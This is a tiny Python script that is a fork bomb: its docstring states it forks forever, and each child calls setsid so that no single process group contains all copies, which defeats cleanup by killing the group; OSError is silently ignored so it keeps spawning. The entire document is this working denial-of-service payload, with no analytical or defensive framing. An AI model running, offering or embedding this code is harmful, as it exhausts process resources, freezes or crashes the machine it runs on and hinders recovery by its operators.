"""Forks for ever, each copy in a session of its own, so that no process group holds them all."""

import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
